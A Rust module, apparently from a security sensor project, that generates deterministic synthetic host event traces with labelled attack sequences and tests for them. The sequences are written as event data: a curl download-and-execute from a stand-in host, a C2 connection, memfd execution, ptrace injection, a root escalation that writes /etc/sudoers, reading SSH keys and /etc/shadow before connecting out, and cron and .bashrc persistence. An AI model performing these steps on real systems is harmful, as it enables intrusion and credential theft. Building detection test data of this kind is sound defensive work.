//! A deterministic synthetic workload: the raw events of a few busy Linux hosts —
//! systemd services, an nginx, cron, a container, an interactive shell — with
//! process trees (fork/exec/exit with pid reuse), hot and cold file paths, network
//! flows, and labelled attack sequences embedded among them. Each cgroup's path is
//! written to the trace before the first batch whose events carry its id. The same
//! (events, seed, hosts) always gives the same trace, byte for byte.

use crate::raw::{IdCall, RawBody, RawEvent, SockAddr, Task};
use crate::trace::{CgroupEntry, TraceError, TraceWriter};
use ritma_schemas::records::RunMeta;

/// Wall clock of the synthetic runs' start: 2026-11-01T00:00:00Z.
pub const SYNTH_START_WALL_NS: u64 = 1_793_491_200_000_000_000;
/// Monotonic clock at the start (the hosts have been up 1000 s).
const START_MONO_NS: u64 = 1_000_000_000_000;
/// Default event rate of one host: 50k events/s.
pub const DEFAULT_RATE: u64 = 50_000;
/// One attack sequence per this many events per host, on average.
const ATTACK_EVERY: u64 = 20_000;
/// Start time of the container's service, the ptrace injection's target.
const JAVA_START_NS: u64 = 500_100_000_000;

const O_WRONLY: u32 = 0o1;
const O_CREAT: u32 = 0o100;
const O_TRUNC: u32 = 0o1000;
const O_APPEND: u32 = 0o2000;
const O_CLOEXEC: u32 = 0o2000000;
const PTRACE_POKETEXT: u64 = 4;
const PTRACE_ATTACH: u64 = 16;
const PTRACE_DETACH: u64 = 17;

/// The attack sequences the workload embeds.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Attack {
    /// A shell downloads a file to /tmp and runs it; it calls home.
    DownloadExec,
    /// A process creates a memfd and executes it.
    MemfdExec,
    /// A process attaches to another with ptrace and writes its memory.
    PtraceInject,
    /// An unprivileged process becomes root without executing a setuid binary.
    PrivEsc,
    /// A process reads a secret and then connects out.
    SecretsEgress,
    /// A process writes a persistence location (cron, systemd unit, shell rc).
    Persistence,
}

impl Attack {
    pub const ALL: [Attack; 6] = [
        Attack::DownloadExec,
        Attack::MemfdExec,
        Attack::PtraceInject,
        Attack::PrivEsc,
        Attack::SecretsEgress,
        Attack::Persistence,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Attack::DownloadExec => "download_exec",
            Attack::MemfdExec => "memfd_exec",
            Attack::PtraceInject => "ptrace_inject",
            Attack::PrivEsc => "priv_esc",
            Attack::SecretsEgress => "secrets_egress",
            Attack::Persistence => "persistence",
        }
    }
}

/// Where an attack sequence sits in the trace.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Label {
    pub node: String,
    pub attack: Attack,
    pub first_seq: u64,
    pub last_seq: u64,
}

impl Label {
    /// One JSON object (the `.labels.jsonl` sidecar line).
    pub fn to_json(&self) -> String {
        format!(
            r#"{{"node":"{}","attack":"{}","first_seq":{},"last_seq":{}}}"#,
            self.node,
            self.attack.name(),
            self.first_seq,
            self.last_seq
        )
    }
}

/// What to generate.
#[derive(Clone, Debug)]
pub struct SynthConfig {
    pub events: u64,
    pub seed: u64,
    pub hosts: u32,
    /// Events per trace frame.
    pub batch: usize,
    /// Mean events per second of each host.
    pub rate: u64,
    /// Window length recorded in the runs' metadata.
    pub window_len_ns: u64,
}

impl SynthConfig {
    /// `events` of `hosts` hosts at the default rate, 1 s windows, 8192-event frames.
    pub fn new(events: u64, seed: u64, hosts: u32) -> Self {
        SynthConfig {
            events,
            seed,
            hosts,
            batch: 8192,
            rate: DEFAULT_RATE,
            window_len_ns: 1_000_000_000,
        }
    }
}

/// SplitMix64: tiny, fast, and fixed here so traces never change with a crate update.
pub struct Rng(pub u64);

impl Rng {
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Fills `out` with pseudo-random bytes.
    pub fn fill(&mut self, out: &mut [u8]) {
        for chunk in out.chunks_mut(8) {
            let v = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&v[..chunk.len()]);
        }
    }

    /// Uniform in `0..n` (n > 0).
    fn below(&mut self, n: u64) -> u64 {
        ((self.next_u64() as u128 * n as u128) >> 64) as u64
    }

    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

#[derive(Clone, Debug)]
struct Proc {
    pid: u32,
    ppid: u32,
    parent_start_ns: u64,
    start_ns: u64,
    uid: u32,
    gid: u32,
    euid: u32,
    comm: &'static [u8],
    cgroup_id: u64,
    mnt_ns: u64,
    pid_ns: u64,
    net_ns: u64,
    /// Long-lived processes are never chosen to exit.
    resident: bool,
}

/// Cgroups of the synthetic hosts (ids are synthetic inode numbers).
const CG_INIT: u64 = 1001;
const CG_SSH: u64 = 1002;
const CG_NGINX: u64 = 1003;
const CG_CRON: u64 = 1004;
const CG_SESSION: u64 = 1005;
const CG_CONTAINER: u64 = 1006;

/// The path of every synthetic cgroup of host `index`, ascending by id. The
/// container runs under docker on even hosts and under Kubernetes (containerd) on odd ones.
fn cgroup_paths(index: u32, seed: u64) -> Vec<CgroupEntry> {
    let digest = |what: &str| {
        let h = blake3::hash(format!("synth seed={seed} host={index} {what}").as_bytes());
        h.as_bytes()
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect::<String>()
    };
    let container = digest("container");
    let container_path = if index.is_multiple_of(2) {
        format!("/system.slice/docker-{container}.scope")
    } else {
        let p = digest("pod");
        let pod = format!(
            "{}_{}_{}_{}_{}",
            &p[..8],
            &p[8..12],
            &p[12..16],
            &p[16..20],
            &p[20..32]
        );
        format!(
            "/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod{pod}.slice/cri-containerd-{container}.scope"
        )
    };
    [
        (CG_INIT, "/init.scope".to_owned()),
        (CG_SSH, "/system.slice/ssh.service".to_owned()),
        (CG_NGINX, "/system.slice/nginx.service".to_owned()),
        (CG_CRON, "/system.slice/cron.service".to_owned()),
        (
            CG_SESSION,
            "/user.slice/user-1000.slice/session-3.scope".to_owned(),
        ),
        (CG_CONTAINER, container_path),
    ]
    .into_iter()
    .map(|(id, path)| (id, path.into_bytes()))
    .collect()
}

const HOST_NS: (u64, u64, u64) = (4026531841, 4026531836, 4026531840);
const CONTAINER_NS: (u64, u64, u64) = (4026532201, 4026532204, 4026532207);

const HOT_PATHS: &[&[u8]] = &[
    b"/etc/ld.so.cache",
    b"/usr/lib/x86_64-linux-gnu/libc.so.6",
    b"/usr/lib/x86_64-linux-gnu/libpcre2-8.so.0",
    b"/etc/nsswitch.conf",
    b"/etc/localtime",
    b"/proc/self/stat",
    b"/sys/fs/cgroup/cpu.max",
    b"/var/www/html/index.html",
];
const SHORT_LIVED: &[(&[u8], &[u8])] = &[
    (b"/usr/bin/ls", b"ls"),
    (b"/usr/bin/grep", b"grep"),
    (b"/usr/bin/cat", b"cat"),
    (b"/usr/bin/ps", b"ps"),
    (b"/usr/bin/logrotate", b"logrotate"),
    (b"/usr/bin/python3.11", b"python3"),
];

struct Host {
    node: String,
    run: u16,
    seq: u64,
    mono_ns: u64,
    procs: Vec<Proc>,
    next_pid: u32,
    until_attack: u64,
    attack_round: usize,
    rng: Rng,
    out: Vec<RawEvent>,
    /// Cgroups whose path is not in the trace yet, ascending by id.
    unannounced_cgroups: Vec<CgroupEntry>,
    mean_gap_ns: u64,
    window_len_ns: u64,
}

impl Host {
    fn new(index: u32, cfg: &SynthConfig, run: u16) -> Self {
        let seed = cfg.seed;
        let mut rng = Rng(seed ^ (index as u64).wrapping_mul(0xa076_1d64_78bd_642f));
        let mono_ns = START_MONO_NS + index as u64 * 17;
        let p = |pid, ppid, start_ns, uid, comm, cgroup_id, ns: (u64, u64, u64)| Proc {
            pid,
            ppid,
            parent_start_ns: 0,
            start_ns,
            uid,
            gid: uid,
            euid: uid,
            comm,
            cgroup_id,
            mnt_ns: ns.0,
            pid_ns: ns.1,
            net_ns: ns.2,
            resident: true,
        };
        let mut procs = vec![
            p(1, 0, 1_000_000, 0, b"systemd".as_slice(), CG_INIT, HOST_NS),
            p(812, 1, 2_500_000_000, 0, b"sshd", CG_SSH, HOST_NS),
            p(901, 1, 3_000_000_000, 0, b"nginx", CG_NGINX, HOST_NS),
            p(902, 901, 3_010_000_000, 33, b"nginx", CG_NGINX, HOST_NS),
            p(903, 901, 3_020_000_000, 33, b"nginx", CG_NGINX, HOST_NS),
            p(950, 1, 3_500_000_000, 0, b"cron", CG_CRON, HOST_NS),
            p(
                1200,
                812,
                400_000_000_000,
                1000,
                b"bash",
                CG_SESSION,
                HOST_NS,
            ),
            p(
                1400,
                1,
                500_000_000_000,
                0,
                b"containerd-shim",
                CG_CONTAINER,
                HOST_NS,
            ),
            p(
                1410,
                1400,
                JAVA_START_NS,
                0,
                b"java",
                CG_CONTAINER,
                CONTAINER_NS,
            ),
        ];
        // Resident processes' parents are resident too: fill in their start times.
        let starts: Vec<(u32, u64)> = procs.iter().map(|p| (p.pid, p.start_ns)).collect();
        for p in &mut procs {
            p.parent_start_ns = starts
                .iter()
                .find(|(pid, _)| *pid == p.ppid)
                .map_or(0, |s| s.1);
        }
        let until_attack = 1 + rng.below(ATTACK_EVERY);
        Host {
            node: format!("synth-{index}"),
            run,
            seq: 0,
            mono_ns,
            procs,
            next_pid: 2000,
            until_attack,
            attack_round: index as usize,
            rng,
            out: Vec::new(),
            unannounced_cgroups: cgroup_paths(index, seed),
            mean_gap_ns: (1_000_000_000 / cfg.rate.max(1)).max(1),
            window_len_ns: cfg.window_len_ns,
        }
    }

    fn meta(&self, seed: u64) -> RunMeta {
        let mut boot_id = [0u8; 16];
        boot_id[..8].copy_from_slice(&seed.to_be_bytes());
        boot_id[8..12].copy_from_slice(&(self.run as u32).to_be_bytes());
        RunMeta {
            node: self.node.clone(),
            boot_id,
            sensor_version: concat!("ritma-synth ", env!("CARGO_PKG_VERSION")).into(),
            config_digest: *blake3::hash(format!("synth seed={seed}").as_bytes()).as_bytes(),
            window_len_ns: self.window_len_ns,
            wall_minus_mono_ns: (SYNTH_START_WALL_NS - START_MONO_NS) as i64,
            first_seq: 0,
            started_wall_ns: SYNTH_START_WALL_NS,
        }
    }

    fn task(p: &Proc) -> Task {
        Task {
            pid: p.pid,
            tid: p.pid,
            ppid: p.ppid,
            parent_start_ns: p.parent_start_ns,
            start_ns: p.start_ns,
            uid: p.uid,
            gid: p.gid,
            euid: p.euid,
            egid: p.gid,
            cgroup_id: p.cgroup_id,
            mnt_ns: p.mnt_ns,
            pid_ns: p.pid_ns,
            net_ns: p.net_ns,
            comm: p.comm.to_vec(),
        }
    }

    /// Emits one event by process `i`.
    fn emit(&mut self, i: usize, body: RawBody) {
        // Uneven gaps: bursts and lulls around the mean.
        self.mono_ns += 1 + self.rng.below(2 * self.mean_gap_ns);
        let task = Self::task(&self.procs[i]);
        self.out.push(RawEvent {
            seq: self.seq,
            mono_ns: self.mono_ns,
            task,
            body,
        });
        self.seq += 1;
    }

    fn any_proc(&mut self) -> usize {
        self.rng.below(self.procs.len() as u64) as usize
    }

    /// Forks a child of process `parent` and execs `exe` in it; returns the child's index.
    fn spawn(
        &mut self,
        parent: usize,
        exe: &[u8],
        comm: &'static [u8],
        argv: Vec<Vec<u8>>,
    ) -> usize {
        // Pids wrap within a small range so they are reused by later processes.
        let pid = self.next_pid;
        self.next_pid = if self.next_pid >= 2400 {
            2000
        } else {
            self.next_pid + 1
        };
        let start_ns = self.mono_ns + 1;
        let mut child = Proc {
            pid,
            ppid: self.procs[parent].pid,
            parent_start_ns: self.procs[parent].start_ns,
            start_ns,
            resident: false,
            ..self.procs[parent].clone()
        };
        self.emit(
            parent,
            RawBody::Fork {
                child_pid: pid,
                child_start_ns: start_ns,
            },
        );
        child.comm = comm;
        self.procs.push(child);
        let c = self.procs.len() - 1;
        let ino = u64::from_be_bytes(
            blake3::hash(exe).as_bytes()[..8]
                .try_into()
                .expect("8 bytes"),
        ) & 0xff_ffff;
        self.emit(
            c,
            RawBody::Exec {
                filename: exe.to_vec(),
                argv,
                argv_truncated: false,
                exe_dev: 0x803,
                exe_ino: ino,
                given: None,
                stdio_net: 0,
            },
        );
        c
    }

    fn exit(&mut self, i: usize, code: i32) {
        self.emit(i, RawBody::Exit { code });
        self.procs.swap_remove(i);
    }

    fn routine(&mut self) {
        let roll = self.rng.below(100);
        match roll {
            0..=44 => {
                let i = self.any_proc();
                let path: Vec<u8> = if self.rng.chance(80) {
                    self.rng.pick(HOT_PATHS).to_vec()
                } else {
                    format!("/var/log/app/{}.log", self.rng.below(5000)).into_bytes()
                };
                let write = !self.rng.chance(85);
                let flags = if write {
                    O_WRONLY | O_APPEND | O_CREAT
                } else {
                    O_CLOEXEC
                };
                let result = if self.rng.chance(3) {
                    -2
                } else {
                    3 + self.rng.below(60) as i64
                };
                self.emit(
                    i,
                    RawBody::Open {
                        path,
                        flags,
                        mode: if write { 0o644 } else { 0 },
                        result,
                        given: None,
                    },
                );
            }
            45..=54 => {
                // nginx accepts clients; the container's service calls a database.
                if self.rng.chance(50) {
                    let w = if self.rng.chance(50) { 3 } else { 4 };
                    let addr = SockAddr::V4 {
                        addr: [
                            10,
                            0,
                            (self.rng.below(4)) as u8,
                            self.rng.below(250) as u8 + 2,
                        ],
                        port: 30000 + self.rng.below(30000) as u16,
                    };
                    let result = 10 + self.rng.below(100) as i64;
                    self.emit(w, RawBody::Accept { addr, result });
                } else {
                    let addr = SockAddr::V4 {
                        addr: [10, 1, 2, 3],
                        port: 5432,
                    };
                    self.emit(8, RawBody::Connect { addr, result: 0 });
                }
            }
            55..=64 => {
                let parent = if self.rng.chance(60) { 6 } else { 5 };
                let (exe, comm) = *self.rng.pick(SHORT_LIVED);
                let argv = vec![
                    comm.to_vec(),
                    format!("arg{}", self.rng.below(100)).into_bytes(),
                ];
                self.spawn(parent, exe, comm, argv);
            }
            65..=74 => {
                let transient: Vec<usize> = (0..self.procs.len())
                    .filter(|&i| !self.procs[i].resident)
                    .collect();
                if let Some(&i) =
                    transient.get(self.rng.below(transient.len().max(1) as u64) as usize)
                {
                    self.exit(i, 0);
                } else {
                    self.emit(
                        0,
                        RawBody::Open {
                            path: b"/proc/1/stat".to_vec(),
                            flags: O_CLOEXEC,
                            mode: 0,
                            result: 5,
                            given: None,
                        },
                    );
                }
            }
            75..=79 => {
                let n = self.rng.below(5000);
                let old = format!("/var/log/app/{n}.log").into_bytes();
                if self.rng.chance(50) {
                    self.emit(
                        5,
                        RawBody::Rename {
                            new: format!("/var/log/app/{n}.log.1").into_bytes(),
                            old,
                            flags: 0,
                            result: 0,
                            old_given: None,
                            new_given: None,
                        },
                    );
                } else {
                    self.emit(
                        5,
                        RawBody::Unlink {
                            path: old,
                            flags: 0,
                            result: 0,
                            given: None,
                        },
                    );
                }
            }
            _ => {
                // Threads of the container's service read their config and classes.
                let path = format!("/app/lib/module-{}.jar", self.rng.below(300)).into_bytes();
                self.emit(
                    8,
                    RawBody::Open {
                        path,
                        flags: O_CLOEXEC,
                        mode: 0,
                        result: 9,
                        given: None,
                    },
                );
            }
        }
    }

    fn attack(&mut self, labels: &mut Vec<Label>) {
        let kind = Attack::ALL[self.attack_round % Attack::ALL.len()];
        self.attack_round += 1;
        let first_seq = self.seq;
        let shell = 6;
        let c2 = SockAddr::V4 {
            addr: [203, 0, 113, 9],
            port: 4444,
        };
        match kind {
            Attack::DownloadExec => {
                let argv = vec![
                    b"curl".to_vec(),
                    b"-so".to_vec(),
                    b"/tmp/.x".to_vec(),
                    b"http://198.51.100.7/x".to_vec(),
                ];
                let curl = self.spawn(shell, b"/usr/bin/curl", b"curl", argv);
                self.emit(
                    curl,
                    RawBody::Connect {
                        addr: SockAddr::V4 {
                            addr: [198, 51, 100, 7],
                            port: 80,
                        },
                        result: 0,
                    },
                );
                self.emit(
                    curl,
                    RawBody::Open {
                        path: b"/tmp/.x".to_vec(),
                        flags: O_WRONLY | O_CREAT | O_TRUNC,
                        mode: 0o755,
                        result: 4,
                        given: None,
                    },
                );
                self.exit(curl, 0);
                let x = self.spawn(shell, b"/tmp/.x", b".x", vec![b"/tmp/.x".to_vec()]);
                self.emit(
                    x,
                    RawBody::Connect {
                        addr: c2,
                        result: 0,
                    },
                );
            }
            Attack::MemfdExec => {
                let p = self.spawn(
                    shell,
                    b"/usr/bin/python3.11",
                    b"python3",
                    vec![b"python3".to_vec(), b"-c".to_vec(), b"...".to_vec()],
                );
                self.emit(
                    p,
                    RawBody::MemfdCreate {
                        name: b"x".to_vec(),
                        flags: 1,
                        result: 3,
                    },
                );
                self.emit(
                    p,
                    // As the live sensor sees it: the memfd the kernel ran, and the fd path given.
                    RawBody::Exec {
                        filename: b"/memfd:x".to_vec(),
                        argv: vec![b"[kworker]".to_vec()],
                        argv_truncated: false,
                        exe_dev: 0x1,
                        exe_ino: 1234,
                        given: Some(b"/proc/self/fd/3".to_vec()),
                        stdio_net: 0,
                    },
                );
                self.procs[p].comm = b"3";
                self.emit(
                    p,
                    RawBody::Connect {
                        addr: c2,
                        result: 0,
                    },
                );
            }
            Attack::PtraceInject => {
                let p = self.spawn(
                    shell,
                    b"/tmp/inject",
                    b"inject",
                    vec![b"/tmp/inject".to_vec(), b"1410".to_vec()],
                );
                for request in [
                    PTRACE_ATTACH,
                    PTRACE_POKETEXT,
                    PTRACE_POKETEXT,
                    PTRACE_DETACH,
                ] {
                    self.emit(
                        p,
                        RawBody::Ptrace {
                            request,
                            target_pid: 1410,
                            target_start_ns: JAVA_START_NS,
                            result: 0,
                        },
                    );
                }
            }
            Attack::PrivEsc => {
                let p = self.spawn(
                    shell,
                    b"/home/user/exploit",
                    b"exploit",
                    vec![b"./exploit".to_vec()],
                );
                self.emit(
                    p,
                    RawBody::SetUid {
                        call: IdCall::Set,
                        ids: [0, 0, 0],
                        result: 0,
                    },
                );
                self.procs[p].uid = 0;
                self.procs[p].euid = 0;
                self.emit(
                    p,
                    RawBody::Open {
                        path: b"/etc/sudoers".to_vec(),
                        flags: O_WRONLY | O_APPEND,
                        mode: 0,
                        result: 3,
                        given: None,
                    },
                );
            }
            Attack::SecretsEgress => {
                let p = self.spawn(
                    shell,
                    b"/usr/bin/python3.11",
                    b"python3",
                    vec![b"python3".to_vec(), b"sync.py".to_vec()],
                );
                self.emit(
                    p,
                    RawBody::Open {
                        path: b"/home/user/.ssh/id_rsa".to_vec(),
                        flags: O_CLOEXEC,
                        mode: 0,
                        result: 3,
                        given: None,
                    },
                );
                self.emit(
                    p,
                    RawBody::Open {
                        path: b"/etc/shadow".to_vec(),
                        flags: O_CLOEXEC,
                        mode: 0,
                        result: 4,
                        given: None,
                    },
                );
                self.emit(
                    p,
                    RawBody::Connect {
                        addr: SockAddr::V4 {
                            addr: [203, 0, 113, 50],
                            port: 443,
                        },
                        result: 0,
                    },
                );
            }
            Attack::Persistence => {
                let p = self.spawn(
                    shell,
                    b"/usr/bin/tee",
                    b"tee",
                    vec![b"tee".to_vec(), b"/etc/cron.d/update".to_vec()],
                );
                self.emit(
                    p,
                    RawBody::Open {
                        path: b"/etc/cron.d/update".to_vec(),
                        flags: O_WRONLY | O_CREAT | O_TRUNC,
                        mode: 0o644,
                        result: 3,
                        given: None,
                    },
                );
                self.emit(
                    p,
                    RawBody::Open {
                        path: b"/home/user/.bashrc".to_vec(),
                        flags: O_WRONLY | O_APPEND,
                        mode: 0,
                        result: 4,
                        given: None,
                    },
                );
                self.exit(p, 0);
            }
        }
        labels.push(Label {
            node: self.node.clone(),
            attack: kind,
            first_seq,
            last_seq: self.seq - 1,
        });
    }

    /// Writes the paths of the cgroups that the pending batch (`out`) is the first to use.
    fn announce_cgroups(&mut self, writer: &mut TraceWriter) -> Result<(), TraceError> {
        if self.unannounced_cgroups.is_empty() {
            return Ok(());
        }
        let out = &self.out;
        let (used, unused): (Vec<_>, Vec<_>) = std::mem::take(&mut self.unannounced_cgroups)
            .into_iter()
            .partition(|(id, _)| out.iter().any(|e| e.task.cgroup_id == *id));
        self.unannounced_cgroups = unused;
        if used.is_empty() {
            return Ok(());
        }
        writer.append_cgroups(self.run, &used)
    }

    /// Produces at least one event.
    fn step(&mut self, labels: &mut Vec<Label>) {
        if self.until_attack == 0 {
            self.attack(labels);
            self.until_attack = 1 + self.rng.below(2 * ATTACK_EVERY);
        } else {
            self.routine();
            self.until_attack -= 1;
        }
    }
}

/// Writes exactly `cfg.events` events to `writer`; returns the labels of the
/// embedded attacks, in order (an attack cut off by the end is not labelled).
pub fn generate(cfg: &SynthConfig, writer: &mut TraceWriter) -> Result<Vec<Label>, TraceError> {
    let hosts_n = cfg.hosts.max(1);
    let mut hosts = Vec::with_capacity(hosts_n as usize);
    for i in 0..hosts_n {
        let mut h = Host::new(i, cfg, 0);
        h.run = writer.add_run(&h.meta(cfg.seed))?;
        hosts.push(h);
    }
    let mut labels = Vec::new();
    let mut written = 0u64;
    let batch = cfg.batch.max(1);
    // Hosts take turns a batch at a time, so every host advances through time together.
    while written < cfg.events {
        for h in hosts.iter_mut() {
            if written >= cfg.events {
                break;
            }
            let want = (batch as u64).min(cfg.events - written) as usize;
            while h.out.len() < want {
                h.step(&mut labels);
            }
            // An attack sequence may overshoot the batch: the rest opens the next one.
            let rest = h.out.split_off(want);
            h.announce_cgroups(writer)?;
            writer.append_batch(h.run, &h.out)?;
            written += want as u64;
            h.out = rest;
        }
    }
    // Seqs below the first unwritten event of each host made it into the trace.
    labels.retain(|l| {
        let h = &hosts[l
            .node
            .trim_start_matches("synth-")
            .parse::<usize>()
            .unwrap_or(0)];
        h.out.first().is_none_or(|e| l.last_seq < e.seq)
    });
    Ok(labels)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::trace::{TraceItem, TraceReader};

    fn synth(
        dir: &std::path::Path,
        name: &str,
        events: u64,
        seed: u64,
        hosts: u32,
    ) -> (Vec<u8>, Vec<Label>) {
        let p = dir.join(name);
        let mut w = TraceWriter::create(&p).unwrap();
        let labels = generate(
            &SynthConfig {
                batch: 1000,
                ..SynthConfig::new(events, seed, hosts)
            },
            &mut w,
        )
        .unwrap();
        (std::fs::read(&p).unwrap(), labels)
    }

    #[test]
    fn same_seed_same_bytes_other_seed_other_bytes() {
        let d = tempfile::tempdir().unwrap();
        let (a, la) = synth(d.path(), "a", 20_000, 7, 2);
        let (b, lb) = synth(d.path(), "b", 20_000, 7, 2);
        let (c, _) = synth(d.path(), "c", 20_000, 8, 2);
        assert_eq!(a, b);
        assert_eq!(la, lb);
        assert_ne!(a, c);
    }

    #[test]
    fn every_cgroup_is_named_in_the_frame_before_its_first_event() {
        use std::collections::BTreeMap;
        let d = tempfile::tempdir().unwrap();
        for batch in [1, 1000] {
            let p = d.path().join(format!("b{batch}"));
            let mut w = TraceWriter::create(&p).unwrap();
            let cfg = SynthConfig {
                batch,
                ..SynthConfig::new(5_000, 3, 2)
            };
            generate(&cfg, &mut w).unwrap();
            let mut r = TraceReader::open(&p).unwrap();
            let mut paths: Vec<BTreeMap<u64, Vec<u8>>> = Vec::new();
            // Ids named by a cgroups frame and not yet seen in the run's next batch.
            let mut just_named: Vec<Vec<u64>> = Vec::new();
            let (mut events, mut frames) = (0, 0);
            while let Some(item) = r.next_item().unwrap() {
                match item {
                    TraceItem::Run { .. } => {
                        paths.push(BTreeMap::new());
                        just_named.push(Vec::new());
                    }
                    TraceItem::Cgroups { run, entries, .. } => {
                        frames += 1;
                        for (id, path) in entries {
                            assert!(paths[run as usize].insert(id, path).is_none());
                            just_named[run as usize].push(id);
                        }
                    }
                    TraceItem::Loss { .. }
                    | TraceItem::Clock { .. }
                    | TraceItem::Exes { .. }
                    | TraceItem::BlobPart { .. }
                    | TraceItem::Continue { .. }
                    | TraceItem::Health(_) => {
                        panic!("synth writes no loss, clock, exes, blob, continue or health frames")
                    }
                    TraceItem::Batch { run, events: e } => {
                        let run = run as usize;
                        for ev in &e {
                            let id = ev.task.cgroup_id;
                            assert!(paths[run].contains_key(&id), "cgroup {id} used unnamed");
                        }
                        for id in just_named[run].drain(..) {
                            assert!(e.iter().any(|ev| ev.task.cgroup_id == id), "{id} early");
                        }
                        events += e.len();
                    }
                }
            }
            assert_eq!(events, 5_000);
            // Named lazily: one-event batches need more than one frame per host.
            assert!(frames > 2 || batch > 1, "{frames} frames for batch {batch}");
            for (run, p) in paths.iter().enumerate() {
                assert_eq!(
                    p.keys().copied().collect::<Vec<_>>(),
                    (1001..=1006).collect::<Vec<_>>()
                );
                assert_eq!(p[&CG_NGINX], b"/system.slice/nginx.service");
                let container = String::from_utf8(p[&CG_CONTAINER].clone()).unwrap();
                let (prefix, id) = container
                    .strip_suffix(".scope")
                    .and_then(|c| c.rsplit_once('-'))
                    .unwrap();
                assert!(id.len() == 64 && id.bytes().all(|b| b.is_ascii_hexdigit()));
                let expected_prefix = if run == 0 {
                    "/system.slice/docker"
                } else {
                    "/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod"
                };
                assert!(prefix.starts_with(expected_prefix), "{container}");
            }
        }
    }

    #[test]
    fn trace_reads_back_with_every_attack_labelled_and_pids_reused() {
        let d = tempfile::tempdir().unwrap();
        let (_, labels) = synth(d.path(), "t", 400_000, 1, 2);
        for a in Attack::ALL {
            assert!(labels.iter().any(|l| l.attack == a), "{a:?} missing");
        }
        let mut r = TraceReader::open(&d.path().join("t")).unwrap();
        let mut events = Vec::new();
        let mut runs = 0;
        while let Some(item) = r.next_item().unwrap() {
            match item {
                TraceItem::Run { .. } => runs += 1,
                TraceItem::Batch { run, events: e } => {
                    events.extend(e.into_iter().map(|e| (run, e)))
                }
                TraceItem::Cgroups { .. }
                | TraceItem::Loss { .. }
                | TraceItem::Clock { .. }
                | TraceItem::Exes { .. }
                | TraceItem::BlobPart { .. }
                | TraceItem::Continue { .. }
                | TraceItem::Health(_) => {}
            }
        }
        assert_eq!(runs, 2);
        assert!(events.len() >= 400_000);
        // Every labelled range holds the attack's signature event on that node.
        for l in &labels {
            let run = l.node.trim_start_matches("synth-").parse::<u16>().unwrap();
            let seqs = events
                .iter()
                .filter(|(r, e)| *r == run && e.seq >= l.first_seq && e.seq <= l.last_seq);
            let has = |f: &dyn Fn(&RawBody) -> bool| seqs.clone().any(|(_, e)| f(&e.body));
            let ok = match l.attack {
                Attack::DownloadExec => has(
                    &|b| matches!(b, RawBody::Exec { filename, .. } if filename.starts_with(b"/tmp/")),
                ),
                Attack::MemfdExec => has(&|b| matches!(b, RawBody::MemfdCreate { .. })),
                Attack::PtraceInject => has(&|b| {
                    matches!(
                        b,
                        RawBody::Ptrace {
                            request: PTRACE_ATTACH,
                            ..
                        }
                    )
                }),
                Attack::PrivEsc => has(&|b| matches!(b, RawBody::SetUid { ids: [0, _, _], .. })),
                Attack::SecretsEgress => {
                    has(&|b| matches!(b, RawBody::Open { path, .. } if path == b"/etc/shadow"))
                }
                Attack::Persistence => has(
                    &|b| matches!(b, RawBody::Open { path, .. } if path.starts_with(b"/etc/cron.d/")),
                ),
            };
            assert!(ok, "{l:?}");
        }
        // Pid reuse: some pid is started by two processes with different start times.
        let mut starts: Vec<(u16, u32, u64)> = events
            .iter()
            .filter_map(|(r, e)| {
                matches!(e.body, RawBody::Exec { .. }).then_some((*r, e.task.pid, e.task.start_ns))
            })
            .collect();
        starts.sort();
        starts.dedup();
        assert!(
            starts
                .windows(2)
                .any(|w| w[0].0 == w[1].0 && w[0].1 == w[1].1),
            "no pid was reused"
        );
        // Time moves forward per host.
        for run in 0..2u16 {
            let t: Vec<u64> = events
                .iter()
                .filter(|(r, _)| *r == run)
                .map(|(_, e)| e.mono_ns)
                .collect();
            assert!(t.windows(2).all(|w| w[0] < w[1]));
        }
    }
}
